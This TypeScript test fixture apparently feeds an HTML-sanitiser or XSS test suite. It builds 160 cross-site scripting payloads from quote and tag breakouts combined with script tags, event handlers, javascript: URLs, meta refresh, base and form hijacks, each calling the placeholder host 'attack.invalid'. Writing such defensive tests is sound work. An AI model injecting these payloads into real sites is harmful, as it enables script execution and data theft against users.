/** What each payload would do if it ran: ask for this host. Nothing else in the tests does. */
export const ATTACK_HOST = 'attack.invalid';

const CALL = `fetch('https://${ATTACK_HOST}/x',{mode:'no-cors'})`;
const quoteStyles = ['', '"', "'", '`', '</title>', '</textarea>', '</script>', '-->', ']]>', '&quot;'];
const elements = [
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<script>${CALL}</script>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<img src="https://${ATTACK_HOST}/x">`,
  `<link rel=stylesheet href="https://${ATTACK_HOST}/x">`,
  `<style>@import "https://${ATTACK_HOST}/x";</style>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<math><mtext><script>${CALL}</script></mtext></math>`,
  `<object data="https://${ATTACK_HOST}/x"></object>`,
  `<video src="https://${ATTACK_HOST}/x" onerror=${CALL}></video>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<meta http-equiv=refresh content="0;url=https://${ATTACK_HOST}/x">`,
  `<base href="https://${ATTACK_HOST}/">`,
  `<form action="https://${ATTACK_HOST}/x"><button>x</button></form>`,
];

/** Every way out of a context with every element: 160 payloads. */
export const PAYLOADS: readonly string[] = quoteStyles.flatMap((opening) => elements.map((element) => `${opening}${opening === '' ? '' : '>'}${element}`));
